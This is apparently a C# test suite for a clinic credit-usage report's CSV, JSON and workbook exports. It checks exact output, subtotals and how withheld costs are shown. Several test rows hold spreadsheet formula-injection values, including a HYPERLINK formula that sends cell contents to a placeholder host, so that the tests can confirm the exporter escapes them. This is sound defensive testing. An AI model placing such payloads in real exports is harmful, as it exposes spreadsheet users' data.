using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using CreditUsage.Features.Corrections;
using CreditUsage.Platform.Security;
using CreditUsage.Tests.Support;
using Microsoft.Extensions.DependencyInjection;

namespace CreditUsage.Tests.Core.Files;

/// <summary>The CSV and JSON files, to the byte.</summary>
public sealed class UsageFilesTests : IAsyncLifetime
{
    private const string Query = "?year=2026&month=10&sessions=true&topUps=true";
    private const string Finance = "finance@files.example";
    private readonly Site _site = new();
    private int _clinic;

    public async Task InitializeAsync()
    {
        _site.UseKestrel(0);
        _site.StartServer();
        _clinic = await _site.SubscriptionAsync("Files & Sons", new DateOnly(2026, 1, 1));
        await _site.UserAsync(_clinic, Finance, Roles.FinanceAdministrator);
    }

    public Task DisposeAsync() => _site.DisposeAsync().AsTask();

    [Fact]
    public async Task The_CSV_is_exact()
    {
        await _site.PriceAsync(_clinic, new DateOnly(2026, 10, 1), 525_000);
        await _site.ImportRowsAsync(
            _clinic,
            CsvRow.Session("E1", "2026-10-01T10:30:00+01:00", minutes: 15, client: "=HYPERLINK(\"http://x/?\"&A1)"),
            CsvRow.Session("E2", "2026-10-01T23:59:59Z", minutes: 6, cost: "1234567.89", client: "+44 Jones", staff: "-Minus", program: "@SUM(A1)"),
            CsvRow.TopUp("E3", "2026-10-02", note: "=1+1"),
            CsvRow.TopUp("E4", "2026-10-02", device: "1000000002", client: "Smith, John \"Jack\""),
            CsvRow.Session("E5", "2026-10-03T00:00:00Z", minutes: 0, client: "\uFF1D1+1"));
        using var finance = await Visitor.SignedInAsync(_site, Finance);

        using var answer = await finance.GetAsync("/usage-report/csv" + Query);

        string[] lines =
        [
            "Date (GMT),Time (GMT),Kind,Staff,Client,Program,Device,Duration (minutes),Credits,Cost (GBP),Event,Note",
            "2026-10-01,09:30:00,Connected session,Sam Staff,\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",Sleep,,15,3,1.58,E1,",
            "2026-10-01,23:59:59,Connected session,'-Minus,'+44 Jones,'@SUM(A1),,6,2,1234567.89,E2,",
            "2026-10-02,,Daily top-up,Sam Staff,1000000001 =1+1,Sleep,1000000001,,1,0.53,E3,",
            "2026-10-02,,Daily top-up,Sam Staff,\"Smith, John \"\"Jack\"\"\",Sleep,1000000002,,1,0.53,E4,",
            "2026-10-03,00:00:00,Connected session,Sam Staff,'\uFF1D1+1,Sleep,,0,1,0.53,E5,",
        ];
        Assert.Equal("\uFEFF" + string.Concat(lines.Select(line => line + "\r\n")), Encoding.UTF8.GetString(await answer.Content.ReadAsByteArrayAsync()));
        Assert.Equal("text/csv; charset=utf-8", answer.Content.Headers.ContentType!.ToString());
        Assert.Equal("Credit Usage Report 2026-10.csv", answer.Content.Headers.ContentDisposition!.FileNameStar);
    }

    [Fact]
    public async Task The_kind_is_one_of_two_and_what_is_corrected_and_why_stands_in_a_column_of_its_own_at_the_end()
    {
        await _site.PriceAsync(_clinic, new DateOnly(2026, 9, 1), 500_000);
        await _site.ImportRowsAsync(_clinic, CsvRow.Session("E1", "2026-10-01T10:30:00Z"), CsvRow.TopUp("E2", "2026-10-02"));
        await _site.InAsync(_clinic, services => services.GetRequiredService<CorrectUsage>().ReverseAsync("E1", "=Ran, \"twice\"", CancellationToken.None));
        using var finance = await Visitor.SignedInAsync(_site, Finance);

        var whole = (await finance.Http.GetStringAsync(new Uri("/usage-report/csv" + Query, UriKind.Relative))).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        var chosen = (await finance.Http.GetStringAsync(new Uri($"/usage-report/csv{Query}&columns=kind", UriKind.Relative))).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal(["Connected session", "Connected session", "Daily top-up"], whole.Skip(1).Select(line => line.Split(',')[2]));
        Assert.EndsWith(",\"correction of E1: =Ran, \"\"twice\"\"\"", Assert.Single(whole, line => line.Contains("correction-", StringComparison.Ordinal)), StringComparison.Ordinal);
        Assert.Equal(2, whole.Skip(1).Count(line => line.EndsWith(',')));
        Assert.Equal("\uFEFFDate (GMT),Time (GMT),Kind,Cost (GBP),Event,Note", chosen[0].StartsWith('\uFEFF') ? chosen[0] : "\uFEFF" + chosen[0]);
        Assert.Contains(chosen, line => line.EndsWith("twice\"\"\"", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Subtotals_alone_are_what_the_CSV_the_JSON_and_the_workbook_have_and_they_add_up()
    {
        await _site.PriceAsync(_clinic, new DateOnly(2026, 9, 1), 500_000);
        await _site.ImportRowsAsync(
            _clinic, CsvRow.Session("E1", "2026-10-01T10:30:00Z", client: "=Zed", staff: "Sam Staff"), CsvRow.Session("E2", "2026-10-02T10:30:00Z", minutes: 12, client: "=Zed"), CsvRow.TopUp("E3", "2026-10-02"));
        using var finance = await Visitor.SignedInAsync(_site, Finance);
        const string subtotals = Query + "&groupBy=client&rows=subtotals";

        var page = await finance.PageAsync("/usage-report" + subtotals);
        using var csv = await finance.GetAsync("/usage-report/csv" + subtotals);
        using var json = JsonDocument.Parse(await finance.Http.GetStringAsync(new Uri("/usage-report/json" + subtotals, UriKind.Relative)));
        var book = XlsxRead.Open(await finance.Http.GetByteArrayAsync(new Uri("/usage-report/xlsx" + subtotals, UriKind.Relative)), "Report");

        // 5 and 3 credits in 25 and 12 minutes, and one of a top-up, at 50p.
        string[] lines = ["Client,Events,Corrections,Duration (minutes),Device-days,Credits,Cost (GBP)", "'=Zed,2,0,37,0,8,4.00", "Nobody (shared cards),1,0,0,1,1,0.50"];
        Assert.Equal("\uFEFF" + string.Concat(lines.Select(line => line + "\r\n")), Encoding.UTF8.GetString(await csv.Content.ReadAsByteArrayAsync()));
        Assert.Empty(page.EventIds());
        Assert.Equal(["400", "50"], page.QuerySelectorAll("tr[data-subtotal]").Select(row => row.GetAttribute("data-cost-pence")));
        Assert.Equal(0, json.RootElement.GetProperty("rows").GetArrayLength());
        Assert.Equal("client", json.RootElement.GetProperty("groupedBy").GetString());
        Assert.Equal(
            [("=Zed", 2, 37, 0, 8, 400), ("Nobody (shared cards)", 1, 0, 1, 1, 50)],
            json.RootElement.GetProperty("groups").EnumerateArray().Select(group => (group.GetProperty("group").GetString()!, Figure(group, "events"), Figure(group, "minutes"), Figure(group, "deviceDays"), Figure(group, "credits"), Figure(group, "costPence"))));
        Assert.Equal(450, Figure(json.RootElement.GetProperty("totals").GetProperty("all"), "costPence"));
        Assert.Equal(["Client", "=Zed", "Nobody (shared cards)", null, "Totals", "Connected sessions", "Daily top-ups", "Total"], book.Column('A', 1, 8));
        Assert.Equal(["2", "1"], book.Column('B', 2, 3));
        Assert.Equal((3m, 37m, 1m, 9m, 4.5m), (book.Calculate("B8"), book.Calculate("D8"), book.Calculate("E8"), book.Calculate("F8"), book.Calculate("G8")));
        Assert.DoesNotContain("E1", book.Sheet.Value, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_page_links_the_JSON_beside_the_other_files()
    {
        using var finance = await Visitor.SignedInAsync(_site, Finance);
        var links = (await finance.PageAsync($"/usage-report{Query}&groupBy=staff")).QuerySelectorAll(".result-actions a[download]").Select(link => (link.TextContent, link.GetAttribute("href")));
        Assert.Equal(["csv", "xlsx", "json"], links.Select(link => link.Item2!.Split('/', '?')[2]));
        Assert.Contains(("Download JSON", $"/usage-report/json{Query}&groupBy=staff"), links);
    }

    [Fact]
    public async Task The_JSON_is_exact()
    {
        await _site.PriceAsync(_clinic, new DateOnly(2026, 10, 1), 525_000);
        await _site.ImportRowsAsync(
            _clinic,
            CsvRow.Session("E1", "2026-10-01T10:30:00.25+01:00", minutes: 15, client: "<b>Zoë</b> \"李\""),
            CsvRow.TopUp("E2", "2026-10-02", cost: "0.01"));
        using var finance = await Visitor.SignedInAsync(_site, Finance);

        using var answer = await finance.GetAsync("/usage-report/json" + Query);

        const string expected = """
            {"subscription":"Files & Sons","month":"2026-10","kinds":["connected-session","daily-top-up"],"generatedAt":"2026-11-22T12:00:00Z","currency":"GBP","rows":[
            {"eventId":"E1","kind":"connected-session","occurredAt":"2026-10-01T09:30:00.25Z","serviceDate":"2026-10-01","staff":"Sam Staff","client":"<b>Zo\u00eb</b> \"\u674e\"","program":"Sleep",
             "deviceId":null,"identityNote":null,"durationMinutes":15,"credits":3,"unitPrice":0.525,"costPence":158},
            {"eventId":"E2","kind":"daily-top-up","occurredAt":"2026-10-02","serviceDate":"2026-10-02","staff":"Sam Staff","client":null,"program":"Sleep",
             "deviceId":"1000000001","identityNote":"Front desk","durationMinutes":null,"credits":1,"unitPrice":null,"costPence":1}],
            "totals":{"sessions":{"events":1,"minutes":15,"deviceDays":0,"credits":3,"costPence":158},"topUps":{"events":1,"minutes":0,"deviceDays":1,"credits":1,"costPence":1},
             "all":{"events":2,"minutes":15,"deviceDays":1,"credits":4,"costPence":159}}}
            """;
        var json = await answer.Content.ReadAsStringAsync();
        Assert.Equal(JsonSerializer.Serialize(JsonDocument.Parse(expected)), JsonSerializer.Serialize(JsonDocument.Parse(json)));
        Assert.Equal("application/json; charset=utf-8", answer.Content.Headers.ContentType!.ToString());
        Assert.Equal("Credit Usage Report 2026-10.json", answer.Content.Headers.ContentDisposition!.FileNameStar);
    }

    [Fact]
    public async Task Withheld_money_is_empty_and_noticed_and_the_credits_are_there()
    {
        await _site.PriceAsync(_clinic, new DateOnly(2026, 10, 2), 500_000);
        await _site.ImportRowsAsync(_clinic, CsvRow.Session("E1", "2026-10-01T09:30:00Z"), CsvRow.Session("E2", "2026-10-02T09:30:00Z"));
        using var finance = await Visitor.SignedInAsync(_site, Finance);

        var page = await finance.PageAsync("/usage-report" + Query);
        using var csv = await finance.GetAsync("/usage-report/csv" + Query);
        using var json = await finance.GetAsync("/usage-report/json" + Query);

        Assert.Contains("The cost is withheld", page.QuerySelector("#usage-results .alert")!.TextContent, StringComparison.Ordinal);
        Assert.Equal(("2", "10"), (page.Total("all").Events, page.Total("all").Credits));
        Assert.True(string.IsNullOrEmpty(page.Total("all").CostPence));
        Assert.Equal(["–", "£2.50"], page.Column(7));
        Assert.Contains(",5,,E1,\r\n", await csv.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        using var document = JsonDocument.Parse(await json.Content.ReadAsStringAsync());
        Assert.Equal(JsonValueKind.Null, document.RootElement.GetProperty("totals").GetProperty("all").GetProperty("costPence").ValueKind);
    }

    [Fact]
    public async Task Files_add_up_to_the_totals_file()
    {
        await _site.ImportAsync(_clinic, SharedData.Awkward);
        var expected = SharedData.Totals("usage-awkward-totals.csv").Where(total => total.Month == "2026-09").Sum(total => total.CostPence);
        using var finance = await Visitor.SignedInAsync(_site, Finance);

        using var csv = await finance.GetAsync("/usage-report/csv?year=2026&month=9&sessions=true&topUps=true");
        using var answer = await finance.GetAsync("/usage-report/json?year=2026&month=9&sessions=true&topUps=true");

        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        using var json = JsonDocument.Parse(await answer.Content.ReadAsStringAsync());
        Assert.Equal(expected, json.RootElement.GetProperty("rows").EnumerateArray().Sum(row => row.GetProperty("costPence").GetInt64()));
        Assert.Equal(expected, json.RootElement.GetProperty("totals").GetProperty("all").GetProperty("costPence").GetInt64());
        var costs = (await csv.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).Select(line => line.Split(',')[^3]);
        Assert.Equal(expected, (long)(costs.Sum(cost => decimal.Parse(cost, CultureInfo.InvariantCulture)) * 100));
    }

    private static int Figure(JsonElement of, string name) => of.GetProperty(name).GetInt32();
}
